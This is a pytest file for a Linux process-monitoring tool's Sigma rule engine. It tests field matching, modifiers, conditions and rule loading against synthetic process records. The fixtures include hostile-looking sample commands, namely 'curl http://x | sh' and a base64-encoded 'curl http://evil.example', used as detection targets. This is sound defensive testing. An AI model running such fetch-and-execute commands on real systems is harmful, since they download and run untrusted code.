"""Sigma rules: every field, modifier and condition form matches the processes it must and no
others, through pySigma, the converter, the sandbox and the real evaluator over a real store.

Every rule here is written for these tests in Sigma's format (none is copied from SigmaHQ).
"""

from __future__ import annotations

import base64
import textwrap
from collections.abc import Iterator
from pathlib import Path

import pytest

from daemoneye.engine.evaluator import Evaluator
from daemoneye.engine.rule_loader import RuleValidator, load_file, load_rules
from daemoneye.engine.sigma_file import parse_sigma_text
from daemoneye.models import ProcessRecord
from daemoneye.store import Store
from tests.unit.conftest import DeltaFactory, RecordFactory

RULE_ID = "0d6f3f9c-5b1e-4c1a-9a57-6c1d2b3a4f50"
EVIL = b"curl http://evil.example"


def sigma_text(detection: str, *, rule_id: str = RULE_ID, product: str = "linux") -> str:
    return (
        f"title: Test rule\nid: {rule_id}\nstatus: test\nlevel: high\n"
        "description: written for DaemonEye's tests\n"
        "tags:\n  - attack.execution\n  - attack.t1059.004\n"
        "references:\n  - https://example.org/sigma-test\n"
        "falsepositives:\n  - administrators\n"
        f"logsource:\n  category: process_creation\n  product: {product}\n"
        "detection:\n" + textwrap.indent(textwrap.dedent(detection).strip("\n"), "  ") + "\n"
    )


def world(make_record: RecordFactory) -> list[ProcessRecord]:
    """The processes every case runs over (pid → what it is)."""
    r = make_record
    offset_b64 = base64.b64encode(b"ab" + EVIL + b"!").decode()
    return [
        r(100, 10.0, name="nginx", exe="/usr/sbin/nginx", cmdline=("nginx: worker process",),
          user="www-data", cwd="/"),
        r(101, 11.0, ppid=100, name="bash", exe="/usr/bin/bash",
          cmdline=("bash", "-c", "curl http://x | sh"), user="www-data", cwd="/var/www"),
        r(102, 12.0, name="curl", exe="/usr/bin/curl",
          cmdline=("curl", "-O", "http://EXAMPLE.org/ÄRGER"), user="alice", cwd="/home/alice"),
        r(103, 13.0, ppid=101, name="x", exe="/tmp/Straße/x", cmdline=("/tmp/Straße/x", "--flag"),
          user="root", cwd="/tmp"),
        r(104, 14.0, ppid=2, name="kworker/0:1", exe=None, cmdline=(), user="root", cwd=None),
        r(105, 15.0, name="sh", exe="/usr/bin/sh",
          cmdline=("sh", "-c", f"echo {base64.b64encode(EVIL).decode()} {offset_b64}"),
          user="alice"),
        r(106, 16.0, name="tool", exe="/opt/tool", cmdline=("tool", "/e", "payload"),
          user="alice"),
        r(107, 17.0, name="sh", exe="/usr/bin/sh", cmdline=("sh", "-c", "a\nb"), user="alice"),
        # pid 120 is reused: cron (started before 110) is 110's parent, sshd (after) is not.
        r(120, 5.0, name="cron", exe="/usr/sbin/cron", cmdline=("/usr/sbin/cron", "-f"),
          user="root", ended_at=30.0),
        r(110, 20.0, ppid=120, name="sleep", exe="/usr/bin/sleep", cmdline=("sleep", "1"),
          user="bob"),
        r(120, 50.0, name="sshd", exe="/usr/sbin/sshd", cmdline=("sshd: bob",), user="root"),
    ]  # fmt: skip


@pytest.fixture
def evaluate(
    store: Store, make_record: RecordFactory, make_delta: DeltaFactory
) -> Iterator[object]:
    records = world(make_record)
    store.apply(make_delta(60.0, added=records))
    evaluator = Evaluator(store.path)
    validator = RuleValidator()

    def run(detection: str) -> set[int]:
        parsed = parse_sigma_text(sigma_text(detection), "t.yml")
        assert parsed.problems == (), parsed.problems
        (rule,) = parsed.rules
        assert validator.problems(rule, parsed) == []
        result = evaluator.evaluate_full([rule])
        assert result.failures == ()
        return {detection.pid for detection in result.detections}

    yield run
    evaluator.close()
    validator.close()


ALL = {100, 101, 102, 103, 104, 105, 106, 107, 110, 120}

# (detection, the pids that must match: every other pid of `world` must not)
CASES: list[tuple[str, str, set[int]]] = [
    # fields
    ("Image", "s: {Image: /usr/bin/curl}\ncondition: s", {102}),
    ("CommandLine", "s: {CommandLine: 'sleep 1'}\ncondition: s", {110}),
    ("User", "s: {User: ROOT}\ncondition: s", {103, 104, 120}),
    ("CurrentDirectory", "s: {CurrentDirectory: /var/www}\ncondition: s", {101}),
    ("ProcessId", "s: {ProcessId: 102}\ncondition: s", {102}),
    ("ParentProcessId", "s: {ParentProcessId: 101}\ncondition: s", {103}),
    ("ParentImage", "s: {ParentImage|endswith: /nginx}\ncondition: s", {101}),
    ("ParentImage by lineage", "s: {ParentImage: /usr/sbin/cron}\ncondition: s", {110}),
    ("ParentCommandLine", "s: {ParentCommandLine|contains: worker}\ncondition: s", {101}),
    ("ParentUser", "s: {ParentUser: www-data}\ncondition: s", {101, 103}),
    # plain values: case-insensitive equality, Sigma wildcards
    ("equals folds case", "s: {Image: /USR/BIN/CURL}\ncondition: s", {102}),
    ("wildcard ?", "s: {Image: '/usr/bin/c?rl'}\ncondition: s", {102}),
    ("wildcard *", "s: {Image: '*bin/*ash'}\ncondition: s", {101}),
    ("escaped wildcard", "s: {Image: '/usr/bin/c\\?rl'}\ncondition: s", set()),
    ("list is any", "s: {Image: [/usr/bin/curl, /opt/tool]}\ncondition: s", {102, 106}),
    # modifiers
    ("contains", "s: {CommandLine|contains: 'curl http'}\ncondition: s", {101}),
    ("contains non-ASCII", "s: {CommandLine|contains: 'ärger'}\ncondition: s", {102}),
    ("contains ß as ss", "s: {Image|contains: STRASSE}\ncondition: s", {103}),
    ("startswith", "s: {Image|startswith: /TMP/}\ncondition: s", {103}),
    ("endswith", "s: {Image|endswith: /bash}\ncondition: s", {101}),
    ("contains|all", "s: {CommandLine|contains|all: [curl, '| sh']}\ncondition: s", {101}),
    ("re is cased", "s: {CommandLine|re: 'CURL'}\ncondition: s", set()),
    ("re", "s: {CommandLine|re: 'curl\\s+-O'}\ncondition: s", {102}),
    ("re|i", "s: {CommandLine|re|i: '^CURL'}\ncondition: s", {102}),
    ("re without m", "s: {CommandLine|re: '^b$'}\ncondition: s", set()),
    ("re|m", "s: {CommandLine|re|m: '^b$'}\ncondition: s", {107}),
    ("re without s", "s: {CommandLine|re: 'a.b'}\ncondition: s", set()),
    ("re|s", "s: {CommandLine|re|s: 'a.b'}\ncondition: s", {107}),
    ("cased", "s: {CommandLine|contains|cased: EXAMPLE}\ncondition: s", {102}),
    ("cased miss", "s: {CommandLine|contains|cased: example}\ncondition: s", set()),
    ("exists false", "s: {Image|exists: false}\ncondition: s", {104}),
    ("exists true", "s: {CurrentDirectory|exists: true}\ncondition: s", ALL - {104}),
    ("null", "s: {Image: null}\ncondition: s", {104}),
    ("windash", "s: {CommandLine|windash|contains: ' -e '}\ncondition: s", {106}),
    ("base64", f"s: {{CommandLine|base64|contains: '{EVIL.decode()}'}}\ncondition: s", {105}),
    (
        "base64offset",
        f"s: {{CommandLine|base64offset|contains: '{EVIL.decode()}'}}\ncondition: s",
        {105},
    ),
    # conditions
    (
        "1 of selection_*",
        "selection_a: {Image|endswith: /curl}\nselection_b: {Image|endswith: /tool}\n"
        "condition: 1 of selection_*",
        {102, 106},
    ),
    (
        "all of selection_*",
        "selection_a: {User: alice}\nselection_b: {Image|endswith: /sh}\n"
        "condition: all of selection_*",
        {105, 107},
    ),
    (
        "all of them",
        "a: {User: alice}\nb: {CommandLine|contains: payload}\ncondition: all of them",
        {106},
    ),
    (
        "1 of them",
        "a: {Image|endswith: /cron}\nb: {Image|endswith: /sshd}\ncondition: 1 of them",
        {120},
    ),
    (
        "not filter",
        "s: {User: alice}\nfilter: {Image|endswith: /sh}\ncondition: s and not filter",
        {102, 106},
    ),
    (
        "not filter on a missing parent",
        "s: {User: root}\nfilter: {ParentImage|endswith: /bash}\ncondition: s and not filter",
        {104, 120},
    ),
    (
        "and/or with parentheses",
        "a: {User: alice}\nb: {Image|endswith: /curl}\nc: {Image|endswith: /tool}\n"
        "d: {User: root}\ncondition: (a and (b or c)) or d",
        {102, 103, 104, 106, 120},
    ),
    (
        "list of maps",
        "s:\n  - {Image|endswith: /curl}\n  - {User: bob}\ncondition: s",
        {102, 110},
    ),
]


@pytest.mark.parametrize(
    ("detection", "expected"), [c[1:] for c in CASES], ids=[c[0] for c in CASES]
)
def test_sigma_rule_matches_exactly_the_processes_it_must(
    evaluate: object, detection: str, expected: set[int]
) -> None:
    assert callable(evaluate)
    assert evaluate(detection) == expected


def test_metadata_is_kept() -> None:
    parsed = parse_sigma_text(sigma_text("s: {Image: /x}\ncondition: s"), "t.yml")
    (rule,) = parsed.rules
    assert (rule.id, rule.sigma_id, rule.name, rule.severity, rule.status) == (
        RULE_ID, RULE_ID, "Test rule", "high", "test"
    )  # fmt: skip
    assert rule.tags == ("attack.execution", "T1059.004")
    assert rule.references == ("https://example.org/sigma-test",)
    assert rule.falsepositives == ("administrators",)
    assert (rule.source_format, rule.source_line, rule.enabled) == ("sigma", 1, True)
    assert rule.description == "written for DaemonEye's tests"


def test_a_deprecated_rule_loads_disabled() -> None:
    text = sigma_text("s: {Image: /x}\ncondition: s").replace("status: test", "status: deprecated")
    (rule,) = parse_sigma_text(text, "t.yml").rules
    assert not rule.enabled


@pytest.mark.parametrize(
    ("detection", "reason"),
    [
        ("s: {Image|foo: x}\ncondition: s", "foo"),
        ("s: {Image|gt: 3}\ncondition: s", "modifier 'gt' is not supported"),
        ("s: {CommandLine|cidr: 10.0.0.0/8}\ncondition: s", "holds an IP address"),
        ("s: {OriginalFileName: x.exe}\ncondition: s", "no Linux meaning"),
        ("s: {LogonId: 0}\ncondition: s", "login session"),
        ("s: {Imgae: /x}\ncondition: s", "did you mean 'Image'?"),
        ("s: [curl, wget]\ncondition: s", "keyword searches"),
        ("s: {Image: /x}\ncondition: s and missing", "missing"),
        ("s: {CommandLine|re: '(a)\\1'}\ncondition: s", "is invalid"),
        ('s: {CommandLine|re: "a\\0b"}\ncondition: s', "NUL"),
        ('s: {CommandLine: "a\\0b"}\ncondition: s', "NUL"),
    ],
)
def test_what_cannot_be_matched_refuses_that_rule_with_file_line_and_reason(
    detection: str, reason: str, capfd: pytest.CaptureFixture[str]
) -> None:
    good = sigma_text(
        "s: {Image: /ok}\ncondition: s", rule_id="11111111-2222-4333-8444-555555555555"
    )
    text = good + "---\n" + sigma_text(detection)
    parsed = parse_sigma_text(text, "/rules/mixed.yml")
    assert [rule.id for rule in parsed.rules] == ["11111111-2222-4333-8444-555555555555"]
    (problem,) = parsed.problems
    assert problem.file == "/rules/mixed.yml"
    assert problem.rule_id == RULE_ID
    assert reason in problem.message
    # the line of the refused document's `detection` key (or of the document)
    assert problem.line > good.count("\n")
    assert capfd.readouterr().err == ""  # the reason is in the problem, not on stderr


def test_broken_yaml_names_the_file_and_line() -> None:
    text = "title: x\nid: 1\ndetection:\n  s: {Image: [unclosed\n  condition: s\n"
    parsed = parse_sigma_text(text, "broken.yml")
    (problem,) = parsed.problems
    assert not parsed.readable
    assert (problem.file, problem.line) == ("broken.yml", 5)  # where the flow list breaks
    assert problem.message.startswith("YAML syntax:")


def test_a_rule_for_another_product_is_skipped_with_a_notice_not_a_problem(
    tmp_path: Path,
) -> None:
    path = tmp_path / "win.yml"
    path.write_text(sigma_text("s: {Image: x}\ncondition: s", product="windows"))
    ruleset = load_file(path)
    assert (ruleset.rules, ruleset.problems) == ((), ())
    (notice,) = ruleset.notices
    assert "product: windows" in notice.message and notice.rule_id == RULE_ID


def test_two_rules_with_the_same_id(tmp_path: Path) -> None:
    one = sigma_text("s: {Image: /a}\ncondition: s")
    parsed = parse_sigma_text(one + "---\n" + one, "twice.yml")
    assert len(parsed.rules) == 1
    (problem,) = parsed.problems
    assert "duplicate rule id" in problem.message and "first defined at line 1" in problem.message
    # In two files the later one overrides the earlier, as TOML rules do.
    (tmp_path / "a.yml").write_text(one)
    (tmp_path / "b.yaml").write_text(one.replace("/a}", "/b}"))
    ruleset = load_rules([tmp_path])
    (rule,) = ruleset.rules
    assert rule.source_file.endswith("b.yaml") and "/b" in rule.query
    assert rule.overrides == f"{tmp_path / 'a.yml'}:1"


def test_a_70_kb_rule_loads_and_matches(
    store: Store, make_record: RecordFactory, make_delta: DeltaFactory
) -> None:
    values = [f"/opt/vendor/tool-{index:05d}" for index in range(2600)]
    detection = "s:\n  Image|endswith:\n" + "".join(f"    - '{v}'\n" for v in values)
    text = sigma_text(detection + "condition: s")
    assert len(text.encode()) > 70_000
    parsed = parse_sigma_text(text, "big.yml")
    (rule,) = parsed.rules
    validator = RuleValidator()
    try:
        assert validator.problems(rule, parsed) == []
    finally:
        validator.close()
    hit = make_record(300, 1.0, exe="/OPT/VENDOR/TOOL-02599")
    miss = make_record(301, 1.0, exe="/opt/vendor/tool-99999")
    store.apply(make_delta(2.0, added=[hit, miss]))
    # what is checked is that it loads and matches, not how fast: a loaded machine (a CI
    # runner's neighbours) must not push it past the default 250 ms budget
    evaluator = Evaluator(store.path, full_time_budget_s=60.0)
    try:
        result = evaluator.evaluate_full([rule])
    finally:
        evaluator.close()
    assert [d.pid for d in result.detections] == [300]


def test_a_converted_rule_runs_per_tick_on_the_new_processes_only(
    store: Store, make_record: RecordFactory, make_delta: DeltaFactory
) -> None:
    (rule,) = parse_sigma_text(
        sigma_text("s: {ParentImage|endswith: /nginx, Image|endswith: /bash}\ncondition: s"),
        "t.yml",
    ).rules
    nginx = make_record(10, 1.0, exe="/usr/sbin/nginx")
    old = make_record(11, 2.0, ppid=10, exe="/bin/bash")
    store.apply(make_delta(2.0, added=[nginx, old]))
    evaluator = Evaluator(store.path, [rule])
    try:
        new = make_record(12, 3.0, ppid=10, exe="/bin/bash")
        store.apply(make_delta(3.0, added=[new]))
        result = evaluator.evaluate_changes([new.key])
    finally:
        evaluator.close()
    assert [(d.pid, d.start_time) for d in result.detections] == [(12, 3.0)]


def test_sigma_metadata_crosses_ipc_and_reaches_the_rules_screen() -> None:
    from daemoneye.ipc.codec import from_wire, to_wire
    from daemoneye.models import RuleStatus
    from daemoneye.tui.logic.rules import rule_facts

    (rule,) = parse_sigma_text(sigma_text("s: {Image: /x}\ncondition: s"), "t.yml").rules
    status = RuleStatus(rule, 0, None, ())
    received = from_wire(RuleStatus, to_wire(status), strict=True)
    assert received == status
    facts = dict(rule_facts(received, 0.0))
    assert facts["format"] == f"Sigma rule {RULE_ID}"
    assert facts["status"] == "test"
    assert facts["refs"] == "https://example.org/sigma-test"
    assert facts["false pos"] == "administrators"


def test_pysigma_is_imported_only_when_a_sigma_file_is_read() -> None:
    import subprocess
    import sys

    code = (
        "import sys; from daemoneye.engine.rule_loader import load_rules; "
        "from daemoneye.paths import BUILTIN_RULES_DIR; load_rules([BUILTIN_RULES_DIR]); "
        "print('sigma' in sys.modules, 'yaml' in sys.modules)"
    )
    result = subprocess.run(
        [sys.executable, "-c", code], capture_output=True, text=True, check=True
    )
    assert result.stdout.split() == ["False", "False"]


def test_an_unchanged_sigma_file_is_not_converted_again_on_reload(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from daemoneye.engine import sigma_file

    calls: list[str] = []
    real = sigma_file.parse_sigma_text

    def counting(text: str, path: str) -> object:
        calls.append(path)
        return real(text, path)

    monkeypatch.setattr(sigma_file, "parse_sigma_text", counting)
    path = tmp_path / "r.yml"
    path.write_text(sigma_text("s: {Image: /a}\ncondition: s"))
    first = load_rules([tmp_path])
    assert load_rules([tmp_path]).rules == first.rules
    assert calls == [str(path)]
    path.write_text(sigma_text("s: {Image: /b}\ncondition: s"))
    assert "/b" in load_rules([tmp_path]).rules[0].query
    assert calls == [str(path), str(path)]
